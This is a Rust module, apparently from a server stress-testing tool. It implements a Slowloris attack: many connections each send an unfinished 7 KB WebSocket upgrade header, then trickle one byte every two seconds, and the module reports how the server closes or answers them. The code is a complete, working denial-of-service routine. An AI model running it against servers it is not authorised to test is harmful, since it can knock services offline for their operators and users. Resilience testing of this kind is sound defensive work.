//! Slowloris with large headers: N connections each send an upgrade request cut short in
//! a 7 KB header (under the 8 KiB head limit, so only time and the handshake memory
//! bound can end them), then one more byte of it every [`TRICKLE`], never finishing it.
//! Descriptors are non-blocking and polled by hand: a write or a read per connection per
//! trickle, no readiness machinery needed at this rate.

use std::io::{self, Read, Write};
use std::net::SocketAddr;
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use super::Plan;
use crate::source;

/// Interval between one connection's bytes.
pub const TRICKLE: Duration = Duration::from_secs(2);
/// Bytes of the unfinished header.
const FILLER: usize = 7000;

struct Slow {
    stream: mio::net::TcpStream,
    /// Bytes of the head not written yet (the connect may still be in progress).
    pending: usize,
    open: bool,
    /// The server answered something (its 503 or 408) before it closed.
    answered: bool,
}

/// Runs the mode for `plan.duration`; the connections close (FIN) at its end.
pub fn run(addr: SocketAddr, plan: &Plan) -> io::Result<Value> {
    let head = format!(
        "GET / HTTP/1.1\r\nHost: {addr}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
         Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nX-Filler: {}",
        "f".repeat(FILLER)
    );
    let head = head.as_bytes();
    let start = Instant::now();
    let end = start + plan.duration;
    let mut conns: Vec<Slow> = Vec::with_capacity(plan.slowloris);
    let mut refused = 0u64;
    let mut first_error = None;
    // Ramp: 500 connects per 10 ms at most, so the listen backlog is not the test.
    while conns.len() + (refused as usize) < plan.slowloris && Instant::now() < end {
        for _ in 0..500 {
            if conns.len() + (refused as usize) >= plan.slowloris {
                break;
            }
            let i = conns.len() + refused as usize;
            match source::connect(addr, source::address(0, i)) {
                Ok(stream) => conns.push(Slow {
                    stream,
                    pending: head.len(),
                    open: true,
                    answered: false,
                }),
                Err(e) => {
                    refused += 1;
                    first_error.get_or_insert(format!("connect: {e}"));
                }
            }
        }
        push_heads(&mut conns, head);
        std::thread::sleep(Duration::from_millis(10));
    }
    let ramp_s = start.elapsed().as_secs_f64();
    let mut buf = [0u8; 1024];
    let mut trickled = 0u64;
    let mut next = 0usize;
    let mut most_open = 0usize;
    let mut closed_at = None;
    // Each turn of 20 ms serves the share of connections due in it.
    let per_turn = (conns.len() as u128 * 20 / TRICKLE.as_millis()).max(1) as usize;
    while Instant::now() < end {
        push_heads(&mut conns, head);
        let n = conns.len();
        for _ in 0..per_turn.min(n) {
            let c = &mut conns[next];
            next = (next + 1) % n;
            if !c.open || c.pending > 0 {
                continue;
            }
            // The server's answer (if any) and its FIN first.
            loop {
                match c.stream.read(&mut buf) {
                    Ok(0) => {
                        c.open = false;
                        break;
                    }
                    Ok(_) => c.answered = true,
                    Err(e) if e.kind() == io::ErrorKind::WouldBlock => break,
                    Err(_) => {
                        c.open = false;
                        break;
                    }
                }
            }
            if c.open {
                match c.stream.write(b"f") {
                    Ok(_) => trickled += 1,
                    Err(e) if e.kind() == io::ErrorKind::WouldBlock => {}
                    Err(_) => c.open = false,
                }
            }
        }
        let open = conns.iter().filter(|c| c.open).count();
        most_open = most_open.max(open);
        if open == 0 && closed_at.is_none() && !conns.is_empty() {
            closed_at = Some(start.elapsed().as_secs_f64());
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    // A last look at every connection: the sweep above sees each only every TRICKLE.
    for c in conns.iter_mut().filter(|c| c.open) {
        loop {
            match c.stream.read(&mut buf) {
                Ok(0) => c.open = false,
                Ok(_) => {
                    c.answered = true;
                    continue;
                }
                Err(e) if e.kind() == io::ErrorKind::WouldBlock => {}
                Err(_) => c.open = false,
            }
            break;
        }
    }
    let still_open = conns.iter().filter(|c| c.open).count();
    let answered = conns.iter().filter(|c| c.answered).count();
    drop(conns);
    let mut v = json!({
        "connections": plan.slowloris,
        "connected": plan.slowloris as u64 - refused,
        "refused": refused,
        "ramp_s": (ramp_s * 100.0).round() / 100.0,
        "head_bytes": head.len(),
        "bytes_trickled": trickled,
        "most_open": most_open,
        "closed_by_server": plan.slowloris as u64 - refused - still_open as u64,
        "answered_before_close": answered,
        "still_open_at_end": still_open,
    });
    if let Some(t) = closed_at {
        v["all_closed_after_s"] = json!((t * 10.0).round() / 10.0);
    }
    if let Some(e) = first_error {
        v["error"] = json!(e);
    }
    Ok(v)
}

/// Writes what is left of each new connection's head (a connect still in progress
/// refuses the write; it is tried again next time).
fn push_heads(conns: &mut [Slow], head: &[u8]) {
    for c in conns.iter_mut().filter(|c| c.open && c.pending > 0) {
        match c.stream.write(&head[head.len() - c.pending..]) {
            Ok(n) => c.pending -= n,
            Err(e)
                if e.kind() == io::ErrorKind::WouldBlock
                    || e.raw_os_error() == Some(libc::ENOTCONN) => {}
            Err(_) => c.open = false,
        }
    }
}
